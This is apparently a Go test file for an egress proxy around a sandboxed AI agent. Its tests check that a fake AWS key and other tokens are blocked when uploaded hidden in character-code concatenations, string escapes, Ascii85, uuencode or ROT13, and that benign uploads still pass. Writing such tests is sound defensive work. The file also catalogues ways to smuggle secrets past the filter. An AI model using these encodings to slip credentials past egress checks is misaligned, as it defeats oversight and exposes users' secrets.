package egress

import (
	"encoding/ascii85"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/big"
	"net/url"
	"strings"
	"testing"
)

// outsideAWS is an AWS key ID in the workspace: the agent holds it.
var outsideAWS = "AKIA" + "QX4TZ7RM2PLW9KVN"

// TestOutsideKeyInCharCodes: a key written as the character codes a
// language builds a string from, or escaped in a string that travels
// escaped again (code in a JSON body, an escape in a query), through a
// real proxy to a host the bottle holds no credential for. Code that
// builds ordinary strings so, and tables of numbers, still pass.
func TestOutsideKeyInCharCodes(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	gh, aws, own := outsideGitHub, outsideAWS, outsideSecret
	text := func(body string) string { return post("/upload", F, "text/plain", body) }
	js := func(code string) string { return post("/upload", F, "application/json", jsonBody(code)) }
	for name, raw := range map[string]string{
		"sql CHAR()+CHAR()":              text("SELECT " + codes(gh, "CHAR(%d)", "+") + ";"),
		"mysql CONCAT(CHAR(),CHAR())":    text("SELECT CONCAT(" + codes(aws, "CHAR(%d)", ",") + ");"),
		"oracle CHR()||CHR()":            text("SELECT " + codes(gh, "CHR(%d)", "||") + " FROM dual;"),
		"python chr()+chr()":             text("k = " + codes(own, "chr(%d)", "+") + "\n"),
		"python chr() + chr() in json":   js("k = " + codes(gh, "chr(%d)", " + ")),
		"perl chr().chr()":               text("my $k = " + codes(aws, "chr(%d)", ".") + ";"),
		"powershell [char]+[char]":       text("$k = " + codes(gh, "[char]%d", "+")),
		"js fromCharCode()+fromCharCode": text("const k = " + codes(gh, "String.fromCharCode(%d)", "+") + ";"),
		"js fromCharCode(a, b, ...)":     js("const k = String.fromCharCode(" + codes(own, "%d", ", ") + ");"),
		"chr(0x67) + chr(0x68)":          text("k = " + codes(gh, "chr(0x%x)", " + ")),
		"\\x escapes in json":            js(`k = "` + codes(gh, `\x%02x`, "") + `"`),
		"\\u escapes in json":            js(`k = "` + codes(aws, `\u%04x`, "") + `"`),
		"octal escapes in json":          js(`k = "` + codes(own, `\%03o`, "") + `"`),
		"\\x escapes in a query":         "GET /search?q=" + url.QueryEscape(codes(gh, `\x%02x`, "")) + " HTTP/1.1\nHost: " + F + "\n\n",
	} {
		t.Run(name, func(t *testing.T) {
			before := o.up.count()
			if code, answer := o.send(t, F, raw); code != 403 || o.up.count() != before {
				t.Errorf("got out: %d %.200s", code, answer)
			}
		})
	}
	for name, body := range map[string]string{
		"a greeting from codes": "const s = String.fromCharCode(72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100, 33);",
		"line ends in sql":      "SELECT 'a' + CHAR(13) + CHAR(10) + 'b' + CHAR(13) + CHAR(10) + 'c' + CHAR(13) + CHAR(10) + 'd' + CHAR(13) + CHAR(10) + 'e' + CHAR(13) + CHAR(10) + 'f' + CHAR(13) + CHAR(10) + 'g';",
		"a table of numbers":    "<table>" + strings.Repeat("<tr><td>12</td><td>34</td><td>56</td><td>78</td></tr>", 8) + "</table>",
		"records in json":       jsonBody(`[{"id":1},{"id":2},{"id":3},{"id":4},{"id":5},{"id":6},{"id":7},{"id":8},{"id":9},{"id":10},{"id":11},{"id":12},{"id":13}]`),
		"a printf of escapes":   jsonBody(`printf "\x1b[1;32mok\x1b[0m\n"; echo -e "\x1b[31mfail\x1b[0m"`),
	} {
		t.Run("benign "+name, func(t *testing.T) {
			if code, answer := o.send(t, F, post("/upload", F, "text/plain", body)); code != 200 {
				t.Errorf("got %d: %s", code, answer)
			}
		})
	}
}

// TestOutsideKeyInAscii85AndKin: a key in the text encodings an agent's
// tools have at hand besides base64 and hex: Ascii85 in its framings
// (Adobe's <~ ~>, wrapped or in a JSON string, and the btoa tool's),
// uuencode, ROT13 (and ROT13 then base64). Uploads that use these
// encodings for what they are for still pass.
func TestOutsideKeyInAscii85AndKin(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	gh, aws, own := outsideGitHub, outsideAWS, outsideSecret
	for name, body := range map[string]string{
		"adobe ascii85":         "<~" + a85("GITHUB_TOKEN="+gh+"\n") + "~>",
		"adobe ascii85 in json": jsonBody("<~" + a85("key: "+aws) + "~>"),
		"adobe ascii85 wrapped": "%!PS\n" + grouped("<~"+a85("# settings\nexport GITHUB_TOKEN="+gh+"\nexport EDITOR=vi\n")+"~>", 75, "\n") + "\n",
		"btoa":                  "xbtoa Begin\n" + grouped(a85(own+"\n"), 78, "\n") + "\nxbtoa End N 34 22 E 5c S 8a0 R 3b2f40c7\n",
		"uuencode":              uu("key.txt", "GITHUB_TOKEN="+gh+"\n"),
		"uuencode in json":      jsonBody(uu(".env", "AWS_ACCESS_KEY_ID="+aws+"\n")),
		"rot13":                 "note: " + rot13(gh),
		"rot13 aws":             jsonBody(rot13(aws)),
		"rot13 of the secret":   "x=" + rot13(own),
		"rot13 then base64":     base64.StdEncoding.EncodeToString([]byte(rot13("token " + gh))),
	} {
		t.Run(name, func(t *testing.T) {
			ct := "text/plain"
			if strings.HasPrefix(body, "{") {
				ct = "application/json"
			}
			before := o.up.count()
			if code, answer := o.send(t, F, post("/upload", F, ct, body)); code != 403 || o.up.count() != before {
				t.Errorf("got out: %d %.200s", code, answer)
			}
		})
	}
	prose := "The quick brown fox jumps over the lazy dog, twice, and then once more for luck.\n"
	for name, body := range map[string]string{
		"a pdf stream":        "stream\n" + grouped("<~"+a85(string(gz([]byte(strings.Repeat(prose, 4)))))+"~>", 75, "\n") + "\nendstream\n",
		"ascii85 of prose":    "<~" + a85(prose) + "~>",
		"a uuencoded note":    uu("note.txt", prose),
		"rot13 prose":         rot13(prose),
		"minified javascript": `!function(e,t){"use strict";var n=e.document,r=Object.getPrototypeOf,i=n.slice,o=n.concat,a=n.push,s=n.indexOf,u={},l=u.toString,c=u.hasOwnProperty,f=c.toString,p=f.call(Object),d={};}(this);`,
	} {
		t.Run("benign "+name, func(t *testing.T) {
			if code, answer := o.send(t, F, post("/upload", F, "text/plain", body)); code != 200 {
				t.Errorf("got %d: %s", code, answer)
			}
		})
	}
}

func jsonBody(s string) string {
	b, _ := json.Marshal(map[string]string{"content": s})
	return string(b)
}

// codes writes each byte of s with format, joined by sep.
func codes(s, format, sep string) string {
	parts := make([]string, len(s))
	for i, c := range []byte(s) {
		parts[i] = fmt.Sprintf(format, c)
	}
	return strings.Join(parts, sep)
}

func a85(s string) string {
	out := make([]byte, ascii85.MaxEncodedLen(len(s)))
	return string(out[:ascii85.Encode(out, []byte(s))])
}

// uu is s uuencoded as a file called name.
func uu(name, s string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "begin 644 %s\n", name)
	enc := func(v byte) byte {
		if v == 0 {
			return '`'
		}
		return v + 32
	}
	for i := 0; i < len(s); i += 45 {
		line := []byte(s[i:min(i+45, len(s))])
		b.WriteByte(enc(byte(len(line))))
		for k := 0; k < len(line); k += 3 {
			var g [3]byte
			copy(g[:], line[k:])
			n := new(big.Int).SetBytes(g[:]).Int64()
			for _, sh := range []int{18, 12, 6, 0} {
				b.WriteByte(enc(byte(n >> sh & 63)))
			}
		}
		b.WriteByte('\n')
	}
	b.WriteString("`\nend\n")
	return b.String()
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case 'a' <= r && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case 'A' <= r && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}
